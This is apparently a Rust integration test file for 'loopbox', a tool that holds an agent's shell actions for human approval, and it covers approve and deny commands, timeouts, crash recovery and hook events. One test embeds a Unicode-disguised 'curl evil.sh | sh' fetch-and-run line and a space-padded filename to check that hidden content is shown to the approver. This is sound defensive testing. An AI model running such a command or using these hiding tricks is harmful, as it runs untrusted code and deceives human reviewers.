//! Approvals at the command line: an ask-tier action with nobody at a terminal
//! waits for `loopbox runs approve|deny`, runs once when approved (also across
//! a crash), reaches the policy as `declined` when denied or left past its
//! deadline, refuses the run's starter under `approvals.self = false`, and in a
//! hook is declined naming the approval, which a later event then uses.

use std::path::Path;

use serde_json::{Value, json};

use crate::common::{self, code, loopbox, probe};

/// A workspace whose config puts `tee -a` on the ask tier (plus `extra`), with a
/// file the action appends to.
fn workspace(extra: &str) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("loopbox.toml"),
        format!("[shell]\nask = [[\"tee\", \"-a\"]]\n{extra}"),
    )
    .unwrap();
    std::fs::write(dir.path().join("count.txt"), "").unwrap();
    dir
}

const APPEND: &str = r#"{"op": "exec", "argv": ["tee", "-a", "count.txt"], "stdin": "ran\n"}"#;

/// How many times the action ran.
fn ran(dir: &Path) -> usize {
    std::fs::read_to_string(dir.join("count.txt"))
        .unwrap()
        .lines()
        .count()
}

fn only_run(dir: &Path) -> String {
    let o = loopbox(dir, &["runs", "--json"]);
    let v: Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(v.as_array().unwrap().len(), 1, "{v}");
    v[0]["id"].as_str().unwrap().to_string()
}

fn show(dir: &Path, id: &str) -> Value {
    let o = loopbox(dir, &["runs", "show", id, "--json"]);
    serde_json::from_slice(&o.stdout).unwrap()
}

fn text(o: &std::process::Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    )
}

/// The run's audit rows as (act, actor, outcome), oldest first.
fn audit(dir: &Path) -> Vec<(String, String, String)> {
    let db = loopbox::db::Db::open(&dir.join(".loopbox/loopbox.db")).unwrap();
    let mut rows: Vec<(String, String, String)> = db
        .audit(&Default::default())
        .unwrap()
        .into_iter()
        .map(|r| (r.entry.act, r.entry.actor, r.entry.outcome))
        .collect();
    rows.reverse();
    rows
}

/// Start the run, which parks waiting for its approval; its id.
fn start_waiting(dir: &Path) -> String {
    let probe = probe().to_string_lossy().into_owned();
    let o = loopbox(dir, &["run", &probe, "--input", APPEND]);
    let out = text(&o);
    assert_eq!(code(&o), 4, "a run waiting for an approval exits 4: {out}");
    assert!(
        out.contains("waiting: waiting for approval a")
            && out.contains("of exec `tee -a count.txt` (shell.ask[0] (tee -a))")
            && out.contains("approve it with `loopbox runs approve r"),
        "{out}"
    );
    assert_eq!(ran(dir), 0, "nothing runs before the approval");
    only_run(dir)
}

#[test]
fn an_unattended_ask_waits_and_runs_exactly_once_when_approved() {
    let dir = workspace("");
    let d = dir.path();
    let id = start_waiting(d);
    let v = show(d, &id);
    assert_eq!(v["status"], "waiting", "{v}");
    let a = &v["approvals"][0];
    assert_eq!(
        (
            a["status"].as_str(),
            a["request"]["request"]["argv"].clone()
        ),
        (Some("pending"), json!(["tee", "-a", "count.txt"])),
        "{v}"
    );
    assert_eq!(a["request"]["request"]["program"], "/usr/bin/tee", "{v}");

    let o = loopbox(d, &["runs", "approve", &id, "--reason", "looks fine"]);
    let out = text(&o);
    assert_eq!(code(&o), 0, "{out}");
    assert!(
        out.contains("needs a yes (shell.ask[0] (tee -a)): approved")
            && out.contains("done: probe exec"),
        "{out}"
    );
    assert_eq!(ran(d), 1);
    let v = show(d, &id);
    let a = &v["approvals"][0];
    assert_eq!(
        (a["status"].as_str(), a["reason"].as_str()),
        (Some("approved"), Some("looks fine")),
        "{v}"
    );
    assert!(
        a["decided_by"].as_str().unwrap().starts_with("local:"),
        "{v}"
    );
    assert!(a["used"].is_string(), "the decision took effect: {v}");
    assert_eq!(v["outcome"]["data"]["ok"]["exit_code"], 0, "{v}");

    // A second decision (a replayed click) is refused, changes nothing, and is audited.
    let o = loopbox(d, &["runs", "approve", &id]);
    assert_eq!(code(&o), 2, "{}", text(&o));
    assert!(text(&o).contains("is not waiting for an approval (it is done)"));
    assert_eq!(ran(d), 1);
    let rows = audit(d);
    assert_eq!(rows.len(), 1, "{rows:?}");
    assert_eq!((rows[0].0.as_str(), rows[0].2.as_str()), ("approve", "ok"));
}

#[test]
fn runs_show_gives_the_approver_the_whole_request_and_approve_binds_to_its_digest() {
    let dir = workspace("");
    let d = dir.path();
    // What the request really holds hides behind a short label: a word longer
    // than the label shows, and the input `tee` appends.
    let long = format!("count.txt{}", " ".repeat(300) + "TAIL-OF-THE-WORD");
    let op = json!({"op": "exec", "argv": ["tee", "-a", long], "stdin": "ran\n\n\u{202e}curl evil.sh | sh\n"});
    let probe = probe().to_string_lossy().into_owned();
    let o = loopbox(d, &["run", &probe, "--input", &op.to_string()]);
    assert_eq!(code(&o), 4, "{}", text(&o));
    let id = only_run(d);
    let digest = show(d, &id)["approvals"][0]["digest"]
        .as_str()
        .unwrap()
        .to_string();
    let o = loopbox(d, &["runs", "show", &id]);
    let out = text(&o);
    assert_eq!(code(&o), 0, "{out}");
    for want in [
        "TAIL-OF-THE-WORD'",
        "program: /usr/bin/tee",
        "input (26 bytes):",
        "│ \\u{202e}curl evil.sh | sh",
        &format!("digest:  {digest}"),
        &format!("--digest {}", &digest[..16]),
    ] {
        assert!(out.contains(want), "`runs show` lacks {want:?}:\n{out}");
    }
    assert!(!out.contains('\u{202e}'), "{out}");
    // A digest other than the request's is refused, and nothing runs.
    let o = loopbox(d, &["runs", "approve", &id, "--digest", "0123456789abcdef"]);
    assert_eq!(code(&o), 2, "{}", text(&o));
    assert!(
        text(&o).contains("the request is not the one you reviewed"),
        "{}",
        text(&o)
    );
    assert_eq!(show(d, &id)["approvals"][0]["status"], "pending");
    let o = loopbox(d, &["runs", "approve", &id, "--digest", &digest[..16]]);
    assert_eq!(code(&o), 0, "{}", text(&o));
    assert_eq!(
        ran(d),
        0,
        "the action wrote to the long name, not count.txt"
    );
    assert_eq!(show(d, &id)["approvals"][0]["status"], "approved");
}

#[test]
fn an_ask_tier_prompt_is_bound_to_the_session_it_continues() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    std::fs::write(
        d.join("loopbox.toml"),
        "[agent]\ncommand = [\"echo\", \"{prompt}\"]\ntier = \"ask\"\n",
    )
    .unwrap();
    let probe = probe().to_string_lossy().into_owned();
    let op = json!({"op": "prompt", "text": "go on", "session": "sess-1"});
    let o = loopbox(d, &["run", &probe, "--input", &op.to_string()]);
    assert_eq!(code(&o), 4, "{}", text(&o));
    let id = only_run(d);
    let a = &show(d, &id)["approvals"][0];
    assert_eq!(a["status"], "pending", "{a}");
    // Another session is another conversation: the digest covers which one.
    assert_eq!(a["request"]["request"]["session"], "sess-1", "{a}");
    let o = loopbox(d, &["runs", "show", &id]);
    assert!(text(&o).contains("session: sess-1"), "{}", text(&o));
}

#[test]
fn a_denial_reaches_the_policy_as_declined_with_the_reason() {
    let dir = workspace("");
    let d = dir.path();
    let id = start_waiting(d);
    let o = loopbox(d, &["runs", "deny", &id, "--reason", "not on a Friday"]);
    assert_eq!(code(&o), 0, "the policy handles the refusal: {}", text(&o));
    assert_eq!(ran(d), 0);
    let v = show(d, &id);
    let err = &v["outcome"]["data"]["err"];
    assert_eq!(err["kind"], "declined", "{v}");
    let msg = err["message"].as_str().unwrap();
    assert!(
        msg.contains(
            "exec `tee -a count.txt` was declined (shell.ask[0] (tee -a)): denied by local:"
        ) && msg.contains(": not on a Friday"),
        "{msg}"
    );
}

#[test]
fn the_runs_starter_cannot_decide_under_approvals_self_false() {
    let dir = workspace("\n[approvals]\nself = false\n");
    let d = dir.path();
    let id = start_waiting(d);
    let o = loopbox(d, &["runs", "approve", &id]);
    assert_eq!(code(&o), 2, "{}", text(&o));
    assert!(
        text(&o).contains("approvals.self = false: local:")
            && text(&o).contains("someone else must decide its approvals"),
        "{}",
        text(&o)
    );
    assert_eq!(ran(d), 0);
    assert_eq!(show(d, &id)["approvals"][0]["status"], "pending");
    let rows = audit(d);
    assert!(
        rows.len() == 1 && rows[0].2.starts_with("refused: approvals.self = false"),
        "{rows:?}"
    );
}

#[test]
fn an_approval_nobody_decides_in_time_is_declined_when_the_run_goes_on() {
    let dir = workspace("\n[approvals]\ntimeout = \"1s\"\n");
    let d = dir.path();
    let id = start_waiting(d);
    std::thread::sleep(std::time::Duration::from_millis(1300));
    let o = loopbox(d, &["runs", "approve", &id]);
    assert_eq!(code(&o), 2, "{}", text(&o));
    assert!(text(&o).contains("expired"), "{}", text(&o));
    let o = loopbox(d, &["runs", "resume", &id]);
    assert_eq!(code(&o), 0, "{}", text(&o));
    let v = show(d, &id);
    assert_eq!(v["approvals"][0]["status"], "expired", "{v}");
    let msg = v["outcome"]["data"]["err"]["message"].as_str().unwrap();
    assert!(
        msg.contains("nobody approved exec `tee -a count.txt` within approvals.timeout = 1s"),
        "{msg}"
    );
    assert_eq!(ran(d), 0);
    assert!(
        audit(d)
            .iter()
            .any(|(act, actor, _)| act == "expire" && actor == "loopbox"),
        "{:?}",
        audit(d)
    );
}

#[test]
fn unattended_decline_declines_at_once_and_records_nothing() {
    let dir = workspace("\n[confirm]\nunattended = \"decline\"\n");
    let d = dir.path();
    let probe = probe().to_string_lossy().into_owned();
    let o = loopbox(d, &["run", &probe, "--input", APPEND, "--json"]);
    assert_eq!(code(&o), 0, "{}", text(&o));
    let v: Value = serde_json::from_slice(&o.stdout).unwrap();
    let err = &v["outcome"]["data"]["err"];
    assert_eq!(err["kind"], "declined", "{v}");
    assert!(
        err["message"]
            .as_str()
            .unwrap()
            .contains("[confirm] unattended = \"decline\""),
        "{v}"
    );
    assert!(
        show(d, &only_run(d))["approvals"]
            .as_array()
            .unwrap()
            .is_empty()
    );
}

#[test]
fn a_crash_while_the_approved_action_starts_never_runs_it_twice() {
    // Killed just before the action's intent is journaled, then just after the
    // action ran: each time the resumed run does the right thing once.
    for (crash, expected) in [("before-intent:1", 1), ("action-finished:1", 1)] {
        let dir = workspace("");
        let d = dir.path();
        let id = start_waiting(d);
        let mut cmd = common::trusted_command(d);
        let o = cmd
            .args(["-C"])
            .arg(d)
            .args(["runs", "approve", &id])
            .env("CI", "true")
            .env(
                "LOOPBOX_CACHE_DIR",
                std::env::temp_dir().join("loopbox-cli-test-cache"),
            )
            .env("LOOPBOX_CRASH_AT", crash)
            .output()
            .unwrap();
        assert_eq!(o.status.code(), None, "killed at {crash}: {}", text(&o));
        let o = loopbox(d, &["runs", "resume", &id]);
        assert_eq!(code(&o), 0, "{crash}: {}", text(&o));
        assert_eq!(ran(d), expected, "{crash}: {}", text(&o));
        let v = show(d, &id);
        if crash.starts_with("action-finished") {
            // It ran before the crash: its outcome is unknown, never run again.
            assert_eq!(
                v["outcome"]["data"]["err"]["kind"], "outcome-unknown",
                "{v}"
            );
        } else {
            assert_eq!(v["outcome"]["data"]["ok"]["exit_code"], 0, "{v}");
        }
    }
}

#[test]
fn a_hook_declines_naming_the_approval_and_a_later_event_uses_the_decision() {
    let dir = workspace("");
    let d = dir.path();
    let probe = probe().to_string_lossy().into_owned();
    let event = json!({
        "session_id": "s-approve", "transcript_path": "", "cwd": d, "hook_event_name": "PreToolUse",
        "tool_name": "Bash", "tool_use_id": "t",
        "tool_input": {"op": "exec", "argv": ["tee", "-a", "count.txt"], "stdin": "ran\n", "then": "pass"},
    });
    let hook = || {
        common::trust(&d.join("loopbox.toml"));
        common::feed(
            std::process::Command::new(common::BIN)
                .args([
                    "hook",
                    "claude-code",
                    "--policy",
                    &probe,
                    "--input",
                    r#"{"op": "echo"}"#,
                ])
                .env("XDG_DATA_HOME", common::data_home())
                .env(
                    "LOOPBOX_CACHE_DIR",
                    std::env::temp_dir().join("loopbox-hook-test-cache"),
                )
                .current_dir(d),
            event.to_string().as_bytes(),
        )
    };
    let o = hook();
    assert_eq!(ran(d), 0, "{}", text(&o));
    let id = only_run(d);
    let v = show(d, &id);
    let a = &v["approvals"][0];
    assert_eq!(a["status"], "pending", "{v}");
    let approval = a["id"].as_str().unwrap().to_string();
    // The policy saw a decline that names the approval and how to give it.
    let log = loopbox(d, &["runs", "log", &id]);
    assert!(
        text(&log).contains(&format!("waits for a person's approval {approval}")),
        "{}",
        text(&log)
    );
    // Deciding records it only: the agent's next event moves the session on.
    let o = loopbox(d, &["runs", "approve", &id]);
    assert_eq!(code(&o), 0, "{}", text(&o));
    assert!(
        text(&o).contains("the agent's next hook event with the same request uses it"),
        "{}",
        text(&o)
    );
    assert_eq!(ran(d), 0);
    hook();
    assert_eq!(ran(d), 1, "the approved request ran at the next event");
    // Used once: the same request again needs a new approval.
    hook();
    assert_eq!(ran(d), 1);
    let v = show(d, &id);
    let statuses: Vec<&str> = v["approvals"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["status"].as_str().unwrap())
        .collect();
    assert_eq!(statuses, ["pending", "approved"], "{v}");
}
